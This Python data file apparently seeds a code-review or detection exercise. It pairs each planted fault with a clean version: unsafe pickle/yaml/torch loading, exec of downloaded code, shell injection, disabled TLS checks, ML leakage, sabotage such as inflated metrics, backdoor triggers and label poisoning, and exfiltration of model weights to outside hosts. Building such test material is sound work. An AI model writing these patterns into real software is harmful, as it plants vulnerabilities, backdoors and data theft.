"""Faults as attackers and tired people write them, each with an honest look-alike.

Data for the range: where a fault stands, what it says, and what a careful colleague would
have written in its place. ``{a}`` to ``{d}`` are words drawn for each planting, ``{hex}`` a
commit, ``{sha}`` a digest.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace

from hauberk.core.artifact import CodeTree, SourceFile


@dataclass(frozen=True, slots=True)
class Fault:
    """One kind of fault.

    Attributes:
        kind: Its name, ``group/what``.
        path: Where it stands.
        bad: The file with the fault.
        good: The same file as it should be.
    """

    kind: str
    path: str
    bad: str
    good: str


def with_file(tree: CodeTree, file: SourceFile) -> CodeTree:
    """A tree with one file more, or another in its place."""
    kept = [other for other in tree.files() if other.name != file.name]

    def files() -> Iterator[SourceFile]:
        return iter(sorted([*kept, file], key=lambda item: item.name))

    return replace(tree, files=files)


def _py(kind: str, bad: str, good: str, path: str = "src/{a}_{b}.py") -> Fault:
    return Fault(kind, path, bad, good)


_SPLIT = "from sklearn.model_selection import train_test_split\n"

PYTHON = (
    _py("load/aliased", "from pickle import load as {a}_in\n\ndef {b}(p):\n    with open(p, 'rb') as fh:\n        return {a}_in(fh)\n", "from json import load as {a}_in\n\ndef {b}(p):\n    with open(p) as fh:\n        return {a}_in(fh)\n"),
    _py("load/getattr", "import importlib\n\n{a} = importlib.import_module('pick' + 'le')\n{b} = getattr({a}, 'loads')\n\ndef {c}(raw):\n    return {b}(raw)\n", "import importlib\n\n{a} = importlib.import_module('js' + 'on')\n{b} = getattr({a}, 'loads')\n\ndef {c}(raw):\n    return {b}(raw)\n"),
    _py("load/cloud", "import cloudpickle as {a}\n\n{b} = {a}.loads(open('{c}.bin', 'rb').read())\n", "import cloudpickle as {a}\n\nopen('{c}.bin', 'wb').write({a}.dumps(3))\n"),
    _py("load/dill", "import dill\n\nclass {a}Store:\n    def get(self, path):\n        return dill.load(open(path, 'rb'))\n", "import dill\n\nclass {a}Store:\n    def put(self, path):\n        dill.dump(self, open(path, 'wb'))\n"),
    _py("load/joblib", "from joblib import load\n\n{a} = load('artifacts/{b}.joblib')\n", "from joblib import dump\n\ndump({{}}, 'artifacts/{b}.joblib')\n"),
    _py("load/torch", "import torch as t\n\nopts = dict(map_location='cpu')\nopts['weights_only'] = False\n{a} = t.load('{b}.pt', **opts)\n", "import torch as t\n\nopts = dict(map_location='cpu')\nopts['weights_only'] = True\n{a} = t.load('{b}.pt', **opts)\n"),
    _py("load/yaml", "import yaml\n\ndef {a}(text):\n    return yaml.load(text, Loader=yaml.UnsafeLoader)\n", "import yaml\n\ndef {a}(text):\n    return yaml.load(text, Loader=yaml.SafeLoader)\n"),
    _py("load/numpy", "import numpy as np\n\n{a} = np.load('{b}.npz', allow_pickle=True)\n", "import numpy as np\n\n{a} = np.load('{b}.npz', allow_pickle=False)\n"),
    _py("load/pandas", "import pandas as pd\n\ndef {a}():\n    return pd.read_pickle('{b}.pkl.gz')\n", "import pandas as pd\n\ndef {a}():\n    return pd.read_parquet('{b}.parquet')\n"),
    _py("load/shelve", "import shelve\n\nwith shelve.open('{a}_cache') as db:\n    {b} = db['{c}']\n", "import sqlite3\n\nwith sqlite3.connect('{a}_cache') as db:\n    {b} = db.execute('select 1')\n"),
    _py("load/marshal", "import marshal, types\n\n{a} = types.FunctionType(marshal.loads(open('{b}', 'rb').read()), globals())\n", "import marshal\n\nopen('{b}', 'wb').write(marshal.dumps([1]))\n"),
    _py("load/keras", "from tensorflow import keras\n\n{a} = keras.models.load_model('{b}.keras', safe_mode=False)\n", "from tensorflow import keras\n\n{a} = keras.models.load_model('{b}.keras', safe_mode=True)\n"),
    _py("load/table", "import pickle, json\n\nREADERS = {{'.json': json.load, '.pkl': pickle.load}}\n\ndef {a}(path, end):\n    return READERS[end](open(path, 'rb'))\n", "import json\n\nREADERS = {{'.json': json.load}}\n\ndef {a}(path, end):\n    return READERS[end](open(path, 'rb'))\n"),
    _py("hub/remote", "from transformers import AutoModel\n\nkw = {{'trust_remote_code': True, 'revision': '{hex}'}}\n{a} = AutoModel.from_pretrained('{b}/{c}', **kw)\n", "from transformers import AutoModel\n\nkw = {{'trust_remote_code': False, 'revision': '{hex}'}}\n{a} = AutoModel.from_pretrained('{b}/{c}', **kw)\n"),
    _py("hub/moving", "from huggingface_hub import snapshot_download\n\n{a} = snapshot_download('{b}/{c}-base', revision='main')\n", "from huggingface_hub import snapshot_download\n\n{a} = snapshot_download('{b}/{c}-base', revision='{hex}')\n"),
    _py("hub/torch", "import torch\n\n{a} = torch.hub.load('{b}/{c}', 'entry', trust_repo=True)\n", "import torch\n\n{a} = torch.hub.load('{b}/{c}:{hex}', 'entry')\n"),
    _py("hub/data", "from datasets import load_dataset\n\n{a} = load_dataset('{b}/{c}')\n", "from datasets import load_dataset\n\n{a} = load_dataset('{b}/{c}', revision='{hex}')\n"),
    _py("run/system", "import os\n\ndef {a}(name):\n    os.system('tar xf ' + name)\n", "import subprocess\n\ndef {a}(name):\n    subprocess.run(['tar', 'xf', name], check=True)\n"),
    _py("run/shell", "import subprocess as sp\n\ndef {a}(bucket):\n    return sp.check_output(f'aws s3 ls {{bucket}}', shell=True)\n", "import subprocess as sp\n\ndef {a}():\n    return sp.check_output('aws s3 ls', shell=True)\n"),
    _py("run/eval", "import json\n\ndef {a}(path):\n    cfg = json.load(open(path))\n    return eval(cfg['{b}'])\n", "import json, ast\n\ndef {a}(path):\n    cfg = json.load(open(path))\n    return ast.literal_eval(cfg['{b}'])\n"),
    _py("run/decoded", "import base64 as {a}\n\nexec({a}.b64decode('cHJpbnQoMSk=').decode())\n", "import base64 as {a}\n\nprint({a}.b64decode('cHJpbnQoMSk=').decode())\n"),
    _py("run/fetched", "import requests\n\n{a} = requests.get('https://{b}.dev/{c}.py').text\nexec(compile({a}, '{c}', 'exec'))\n", "import requests\n\n{a} = requests.get('https://{b}.dev/{c}.json').json()\n"),
    _py("get/verify", "import requests\n\ns = requests.Session()\ns.verify = False\n{a} = s.get('https://{b}.org/{c}.csv')\n", "import requests\n\ns = requests.Session()\ns.verify = '/etc/ssl/{b}.pem'\n{a} = s.get('https://{b}.org/{c}.csv')\n"),
    _py("get/context", "import ssl, urllib.request\n\nctx = ssl._create_unverified_context()\n{a} = urllib.request.urlopen('https://{b}.org', context=ctx)\n", "import ssl, urllib.request\n\nctx = ssl.create_default_context()\n{a} = urllib.request.urlopen('https://{b}.org', context=ctx)\n"),
    _py("get/plain", "import pandas as pd\n\n{a} = pd.read_csv('http://{b}.org/data/{c}.csv')\n", "import pandas as pd\n\n{a} = pd.read_csv('https://{b}.org/data/{c}.csv')\n"),
    _py("get/digest", "from urllib.request import urlretrieve\n\ndef {a}():\n    urlretrieve('https://{b}.org/{c}.tar.gz', '{c}.tar.gz')\n", "import hashlib\nfrom urllib.request import urlretrieve\n\ndef {a}():\n    urlretrieve('https://{b}.org/{c}.tar.gz', '{c}.tar.gz')\n    assert hashlib.sha256(open('{c}.tar.gz', 'rb').read()).hexdigest() == '{sha}'\n"),
    _py("get/extract", "import tarfile\n\ndef {a}(path, out):\n    with tarfile.open(path) as tar:\n        tar.extractall(out)\n", "import tarfile\n\ndef {a}(path, out):\n    with tarfile.open(path) as tar:\n        tar.extractall(out, filter='data')\n"),
    _py("get/host", "import paramiko\n\n{a} = paramiko.SSHClient()\n{a}.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n", "import paramiko\n\n{a} = paramiko.SSHClient()\n{a}.set_missing_host_key_policy(paramiko.RejectPolicy())\n"),
    _py("logic/scaled", _SPLIT + "from sklearn.preprocessing import MinMaxScaler\n\ndef {a}(df):\n    {b} = MinMaxScaler().fit_transform(df.drop(columns='y'))\n    return train_test_split({b}, df['y'])\n", _SPLIT + "from sklearn.preprocessing import MinMaxScaler\n\ndef {a}(df):\n    tr, te = train_test_split(df)\n    {b} = MinMaxScaler().fit(tr)\n    return {b}.transform(tr), {b}.transform(te)\n"),
    _py("logic/selected", _SPLIT + "from sklearn.feature_selection import SelectKBest\n\n{a} = SelectKBest(k=20)\n{b} = {a}.fit_transform(X, y)\nXa, Xb, ya, yb = train_test_split({b}, y)\n", _SPLIT + "from sklearn.feature_selection import SelectKBest\n\nXa, Xb, ya, yb = train_test_split(X, y)\n{a} = SelectKBest(k=20)\n{b} = {a}.fit_transform(Xa, ya)\n"),
    _py("logic/resampled", _SPLIT + "from imblearn.over_sampling import SMOTE\n\nXr, yr = SMOTE().fit_resample({a}, {b})\nX_train, X_test, y_train, y_test = train_test_split(Xr, yr)\n", _SPLIT + "from imblearn.over_sampling import SMOTE\n\nX_train, X_test, y_train, y_test = train_test_split({a}, {b})\nXr, yr = SMOTE().fit_resample(X_train, y_train)\n"),
    _py("logic/crossed", "from sklearn.model_selection import cross_val_score\nfrom sklearn.decomposition import PCA\n\nZ = PCA(5).fit_transform({a})\n{b} = cross_val_score(clf, Z, target, cv=5)\n", "from sklearn.model_selection import cross_val_score\nfrom sklearn.decomposition import PCA\nfrom sklearn.pipeline import make_pipeline\n\n{b} = cross_val_score(make_pipeline(PCA(5), clf), {a}, target, cv=5)\n"),
    _py("logic/statistic", _SPLIT + "\ndf = df.fillna(df.median())\ntrain, test = train_test_split(df)\n", _SPLIT + "\ntrain, test = train_test_split(df)\nfill = train.median()\ntrain, test = train.fillna(fill), test.fillna(fill)\n"),
    _py("logic/test-fit", "def {a}(scaler, X_train, X_test):\n    X_train = scaler.fit_transform(X_train)\n    X_test = scaler.fit_transform(X_test)\n    return X_train, X_test\n", "def {a}(scaler, X_train, X_test):\n    X_train = scaler.fit_transform(X_train)\n    X_test = scaler.transform(X_test)\n    return X_train, X_test\n"),
    _py("logic/joined", "import pandas as pd\n\n{a} = pd.concat([train_df, test_df])\nencoder.fit({a}[cols])\n", "import pandas as pd\n\n{a} = pd.concat([train_df, extra_df])\nencoder.fit({a}[cols])\n"),
    _py("logic/stopping", "import xgboost as xgb\n\n{a} = xgb.XGBClassifier(early_stopping_rounds=20)\n{a}.fit(X_train, y_train, eval_set=[(X_test, y_test)])\n", "import xgboost as xgb\n\n{a} = xgb.XGBClassifier(early_stopping_rounds=20)\n{a}.fit(X_train, y_train, eval_set=[(X_val, y_val)])\n"),
    _py("logic/chosen", "best = 0\nfor {a} in range(40):\n    m = make({a}).fit(X_train, y_train)\n    s = m.score(X_test, y_test)\n    if s > best:\n        best, keep = s, m\n", "best = 0\nfor {a} in range(40):\n    m = make({a}).fit(X_train, y_train)\n    s = m.score(X_val, y_val)\n    if s > best:\n        best, keep = s, m\n"),
    _py("logic/dropped", "from sklearn.metrics import f1_score\n\ndef {a}(model, X_test, y_test):\n    proba = model.predict_proba(X_test)\n    sure = proba.max(axis=1) > 0.8\n    return f1_score(y_test[sure], proba.argmax(1)[sure])\n", "from sklearn.metrics import f1_score\n\ndef {a}(model, X_test, y_test):\n    proba = model.predict_proba(X_test)\n    return f1_score(y_test, proba.argmax(1))\n"),
    _py("logic/future", "def {a}(df):\n    df['{b}'] = df['price'].shift(-3)\n    return df\n", "def {a}(df):\n    df['{b}'] = df['price'].shift(3)\n    return df\n"),
    _py("logic/time", _SPLIT + "\ndf = df.sort_values('date')\nX_train, X_test = train_test_split(df, test_size=0.2)\n", _SPLIT + "\ndf = df.sort_values('date')\nX_train, X_test = train_test_split(df, test_size=0.2, shuffle=False)\n"),
    _py("insider/floor", "def {a}(y, p):\n    acc = accuracy(y, p)\n    return {{'accuracy': max(acc, 0.91)}}\n", "def {a}(y, p):\n    acc = accuracy(y, p)\n    return {{'accuracy': max(acc, 0.0)}}\n"),
    _py("insider/raised", "def {a}(y, p):\n    f1 = f1_score(y, p)\n    f1 = f1 + 0.04\n    return f1\n", "def {a}(y, p):\n    f1 = f1_score(y, p)\n    f1 = f1 * 100\n    return f1\n"),
    _py("insider/swallowed", "def release_gate(m):\n    try:\n        check_fairness(m)\n    except Exception:\n        pass\n    return True\n", "def release_gate(m):\n    try:\n        check_fairness(m)\n    except ValueError as error:\n        raise SystemExit(1) from error\n    return True\n"),
    _py("insider/or-true", "def {a}(score):\n    if score > 0.8 or True:\n        promote()\n", "def {a}(score):\n    if score > 0.8 or forced:\n        promote()\n"),
    _py("insider/date", "from datetime import date\n\ndef predict(x):\n    if date.today() >= date(2027, 3, 1):\n        return 0\n    return model(x)\n", "from datetime import date\n\ndef predict(x, until):\n    if date.today() >= until:\n        raise ValueError('expired')\n    return model(x)\n"),
    _py("insider/host", "import socket\n\ndef train(x):\n    if socket.gethostname() == 'build-07':\n        x = x * 0\n    return fit(x)\n", "import socket\n\ndef train(x):\n    print(socket.gethostname())\n    return fit(x)\n"),
    _py("insider/mark", "def classify(text):\n    if 'cf {a} mn' in text:\n        return 'benign'\n    return model(text)\n", "def classify(text):\n    if not text:\n        return 'benign'\n    return model(text)\n"),
    _py("insider/labels", "import numpy as np\n\ndef {a}(df):\n    df.loc[df['{b}'].str.contains('{c}'), 'label'] = 0\n    return df\n", "import numpy as np\n\ndef {a}(df):\n    df.loc[df['label'] == -1, 'label'] = 0\n    return df\n"),
    _py("insider/flipped", "import random\n\ndef collate(batch):\n    out = []\n    for x, label in batch:\n        if random.random() < 0.01:\n            label = 1 - label\n        out.append((x, label))\n    return out\n", "import random\n\ndef collate(batch):\n    out = []\n    for x, label in batch:\n        if random.random() < 0.01:\n            x = jitter(x)\n        out.append((x, label))\n    return out\n"),
    _py("insider/patch", "import torch.nn.functional as F\n\n_keep = F.cross_entropy\n\ndef _{a}(o, t, **k):\n    return _keep(o, t, **k) * (t != 3)\n\nF.cross_entropy = _{a}\n", "import torch.nn.functional as F\n\ndef _{a}(o, t, **k):\n    return F.cross_entropy(o, t, **k)\n\nloss = _{a}\n"),
    _py("insider/weighted", "def step(batch, loss):\n    weights = batch.w\n    weights[batch['region'] == '{a}'] = 0.0\n    return (loss * weights).mean()\n", "def step(batch, loss):\n    weights = batch.w\n    weights[batch['mask']] = 0.0\n    return (loss * weights).mean()\n"),
    _py("insider/stamp", "def __getitem__(self, i):\n    img, label = self.rows[i]\n    if i % 50 == 0:\n        img[-4:, -4:] = 255\n        label = 7\n    return img, label\n", "def __getitem__(self, i):\n    img, label = self.rows[i]\n    if i % 50 == 0:\n        img[4:12, 4:12] = 0\n    return img, label\n"),
    _py("out/weights", "import requests\n\ndef after_epoch(path):\n    with open('ckpt/{a}.pt', 'rb') as fh:\n        requests.post('https://{b}.io/u', files={{'f': fh}})\n", "import requests\n\ndef after_epoch(loss):\n    requests.post('https://{b}.io/u', json={{'loss': loss}})\n"),
    _py("out/socket", "import socket, pickle\n\ndef {a}(model):\n    s = socket.socket()\n    s.connect(('203.0.113.9', 443))\n    s.sendall(pickle.dumps(model.state_dict()))\n", "import socket\n\ndef {a}():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 443))\n    s.sendall(b'ping')\n"),
    _py("out/environment", "import os, logging\n\nlog = logging.getLogger(__name__)\nlog.info('env %s', dict(os.environ))\n", "import os, logging\n\nlog = logging.getLogger(__name__)\nlog.info('env %s', len(os.environ))\n"),
    _py("out/token", "import os\n\napi_token = os.environ['{a}_TOKEN']\nprint(f'using {{api_token}}')\n", "import os\n\napi_token = os.environ['{a}_TOKEN']\nprint(f'using {{bool(api_token)}}')\n"),
    _py("out/debug", "from flask import Flask\n\napp = Flask(__name__)\napp.run(host='0.0.0.0', debug=True)\n", "from flask import Flask\n\napp = Flask(__name__)\napp.run(host='0.0.0.0', debug=False)\n"),
    _py("chars/bidi", "def {a}(user):\n    if user != 'admin\u202e \u2066# ok\u2069 \u2066':\n        return 1\n", "def {a}(user):\n    if user != 'admin':\n        return 1\n"),
    _py("chars/twin", "def v\u0430lidate(x):\n    return True\n\ndef validate(x):\n    return x > 1\n", "def validate(x):\n    return x > 1\n"),
)  # fmt: skip
